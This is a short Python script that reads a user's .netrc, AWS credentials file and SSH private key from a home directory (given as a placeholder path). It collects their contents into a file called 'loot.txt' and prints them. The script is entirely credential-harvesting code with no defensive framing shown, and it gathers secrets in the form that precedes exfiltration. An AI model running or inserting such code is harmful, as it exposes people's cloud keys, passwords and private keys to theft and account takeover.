import pathlib

out = []
for name in (".netrc", ".aws/credentials", ".ssh/id_ed25519"):
    try:
        out.append(pathlib.Path("@HOME@", name).read_text())
    except OSError as error:
        out.append(f"no: {error.errno}")
pathlib.Path("loot.txt").write_text("".join(out))
print("".join(out))
